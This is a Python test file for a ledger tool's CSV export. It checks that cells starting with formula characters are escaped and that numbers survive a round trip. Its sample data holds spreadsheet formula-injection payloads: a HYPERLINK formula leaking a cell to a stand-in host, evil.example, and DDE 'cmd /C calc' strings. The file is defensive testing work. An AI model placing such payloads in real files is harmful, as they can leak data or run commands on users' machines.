"""CSV files the project writes never hand a spreadsheet a formula to run, keep numbers as
numbers, and the exported CSV still imports back to the same events."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from hypothesis import given
from hypothesis import strategies as st
from typer.testing import CliRunner, Result

from projections.csvcells import ESCAPE, FORMULA_STARTS, guard, unguard
from tools.cli import app
from tools.service import create_app

HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(A1:A9)", "\uff1d1+1", "'=already quoted"]
ACCOUNT = "=acct"
JOB = "@job"
MEMO = "=cmd|' /C calc'!A0"
REASON = "-1+1 fix"

EVENTS = [
    {"type": "account", "account": ACCOUNT},
    {"type": "grant", "account": ACCOUNT, "amount": 100, "time": 1, "pool": "+pool",
     "memo": MEMO},
    {"type": "consume", "account": ACCOUNT, "amount": 30, "time": 2, "pool": "+pool",
     "memo": "@someone"},
    {"type": "adjust", "account": ACCOUNT, "amount": -25, "time": 3, "reason": REASON},
    {"type": "submit", "account": ACCOUNT, "job": JOB, "cost": 10, "priority": 1, "time": 4},
    {"type": "start", "job": JOB, "time": 5},
    {"type": "complete", "job": JOB, "success": True, "time": 6},
]


def _safe(cell: str) -> bool:
    """What a spreadsheet would not run: no formula start, unless a plain number."""
    if not cell or cell[0] not in FORMULA_STARTS:
        return True
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _all_safe(text: str) -> None:
    for row in _cells(text):
        for cell in row:
            assert _safe(cell), (cell, row)


@given(st.text())
def test_guard_is_reversible_and_never_starts_a_formula(text: str) -> None:
    cell = guard(text)
    assert unguard(cell) == text
    assert _safe(cell)
    if text.startswith(ESCAPE):
        assert cell == ESCAPE + text  # so that unguard cannot take away the text's own


@given(st.one_of(st.integers(), st.floats(allow_nan=False, allow_infinity=False)))
def test_numbers_stay_numbers(value: int | float) -> None:
    assert guard(value) == value
    if isinstance(value, int):
        assert guard(str(value)) == str(value)  # a negative amount as text is no formula


@pytest.mark.parametrize("text", HOSTILE)
def test_each_formula_start_is_escaped(text: str) -> None:
    assert guard(text) == ESCAPE + text
    assert unguard(guard(text)) == text


def test_negative_numbers_are_written_as_numbers() -> None:
    for number in ("-25", "-0.5", "-1e3", "12"):
        assert guard(number) == number


@pytest.fixture
def db(tmp_path: Path) -> str:
    url = f"sqlite:///{tmp_path / 'ledger.db'}"
    data = tmp_path / "in.jsonl"
    data.write_text("".join(json.dumps(e) + "\n" for e in EVENTS))
    result = _run("import", str(data), "--db", url)
    assert result.exit_code == 0, result.stderr
    return url


def _run(*args: str) -> Result:
    return CliRunner().invoke(app, list(args), catch_exceptions=False)


def test_statement_csv_escapes_names_and_keeps_amounts(db: str) -> None:
    result = _run("statement", ACCOUNT, "--csv", "--db", db)
    assert result.exit_code == 0, result.stderr
    _all_safe(result.stdout)
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert {r["type"] for r in rows} >= {"grant", "consume", "adjust", "complete"}
    adjust = next(r for r in rows if r["type"] == "adjust")
    assert adjust["change"] == "-25"  # a number, not text
    assert int(adjust["change"]) == -25
    assert "'+pool" in {r["pool"] for r in rows}
    assert {r["job"] for r in rows if r["job"]} == {"'" + JOB}


def test_export_csv_escapes_and_imports_back_unchanged(db: str, tmp_path: Path) -> None:
    out = tmp_path / "journal.csv"
    assert _run("export", "--format", "csv", "--out", str(out), "--db", db).exit_code == 0
    text = out.read_text()
    _all_safe(text)
    assert f"'{MEMO}" in {c for row in _cells(text) for c in row}
    assert "-25" in {c for row in _cells(text) for c in row}
    copy = f"sqlite:///{tmp_path / 'copy.db'}"
    result = _run("import", str(out), "--db", copy)
    assert result.exit_code == 0, result.stderr
    again = _run("import", str(out), "--db", db)  # the same ids: nothing new
    assert again.exit_code == 0, again.stderr
    a = json.loads(_run("replay", "--json", "--db", db).stdout)
    b = json.loads(_run("replay", "--json", "--db", copy).stdout)
    assert a["digest"] == b["digest"] and a["events"] == b["events"] == len(EVENTS)
    first = _run("export", "--db", db).stdout.splitlines()
    second = _run("export", "--db", copy).stdout.splitlines()
    assert first == second
    assert any(json.loads(line).get("memo") == MEMO for line in second)


def test_reconcile_csv_escapes(db: str, tmp_path: Path) -> None:
    charges = tmp_path / "charges.csv"
    charges.write_text(f"account,job,amount\n{ACCOUNT},{JOB},10\n{ACCOUNT},=evil(),5\n")
    result = _run("reconcile", str(charges), "--csv", "--db", db)
    assert result.exit_code == 1, result.stderr  # a difference: the unknown job
    _all_safe(result.stdout)
    assert "'=evil()" in {c for row in _cells(result.stdout) for c in row}


def test_reconcile_reads_back_the_cells_a_statement_csv_guarded(tmp_path: Path) -> None:
    """A charges file made from `statement --csv` (its `account`, `job` and `event_id`
    cells, apostrophe included) matches the ledger it came from: reconcile reads a cell
    the ledger does not know as written the way `import` reads an exported one."""
    db = f"sqlite:///{tmp_path / 'charged.db'}"
    data = tmp_path / "in.jsonl"
    data.write_text("".join(json.dumps(e) + "\n" for e in (
        {"type": "grant", "account": ACCOUNT, "amount": 100, "time": 1},
        {"type": "submit", "account": ACCOUNT, "job": JOB, "cost": 10, "priority": 1,
         "time": 2},
        {"type": "start", "job": JOB, "time": 3},
        {"type": "complete", "job": JOB, "success": True, "time": 4},
        {"type": "consume", "account": ACCOUNT, "amount": 5, "time": 5, "id": "+SUM(A1)"})))
    assert _run("import", str(data), "--db", db).exit_code == 0
    result = _run("statement", ACCOUNT, "--csv", "--db", db)
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    usage = next(r for r in rows if r["type"] == "consume")
    job = next(r for r in rows if r["type"] == "complete")
    assert (usage["event_id"], job["job"]) == (ESCAPE + "+SUM(A1)", ESCAPE + JOB)
    charges = tmp_path / "charges.csv"
    with charges.open("w", newline="") as out:
        writer = csv.writer(out)
        writer.writerow(["account", "job", "id", "amount"])
        writer.writerow([ESCAPE + ACCOUNT, job["job"], "", -int(job["change"])])
        writer.writerow([ESCAPE + ACCOUNT, "", usage["event_id"], -int(usage["change"])])
    result = _run("reconcile", str(charges), "--json", "--db", db)
    assert result.exit_code == 0, result.stdout
    answer = json.loads(result.stdout)
    assert answer["counts"]["matched"] == 2
    assert {(f["account"], f["job"], f["id"]) for f in answer["findings"]} == {
        (ACCOUNT, JOB, None), (ACCOUNT, None, "+SUM(A1)")}


def test_reconcile_takes_a_name_starting_with_an_apostrophe_as_written_when_known(
        tmp_path: Path) -> None:
    """An account whose own name starts with an apostrophe matches written as it is
    (`'quoted`) or as a guarded CSV writes it (`''quoted`)."""
    url = f"sqlite:///{tmp_path / 'quoted.db'}"
    data = tmp_path / "in.jsonl"
    data.write_text("".join(json.dumps(e) + "\n" for e in (
        {"type": "grant", "account": "'quoted", "amount": 10, "time": 1},
        {"type": "consume", "account": "'quoted", "amount": 4, "time": 2, "id": "u1"})))
    assert _run("import", str(data), "--db", url).exit_code == 0
    for written in ("'quoted", "''quoted"):
        charges = tmp_path / "charges.csv"
        charges.write_text(f"account,id,amount\n{written},u1,4\n")
        result = _run("reconcile", str(charges), "--json", "--db", url)
        assert result.exit_code == 0, (written, result.stdout)


@pytest.fixture
def client(db: str) -> Iterator[TestClient]:
    with TestClient(create_app(db)) as c:
        yield c


def test_http_statement_and_web_ledger_csv_escape(client: TestClient) -> None:
    from urllib.parse import quote

    r = client.get(f"/v1/accounts/{quote(ACCOUNT)}/statement",
                   headers={"Accept": "text/csv"})
    assert r.status_code == 200, r.text
    _all_safe(r.text)
    assert "-25" in {c for row in _cells(r.text) for c in row}
    r = client.get(f"/accounts/{quote(ACCOUNT)}/ledger.csv")
    assert r.status_code == 200, r.text
    _all_safe(r.text)
    assert "'" + JOB in {c for row in _cells(r.text) for c in row}
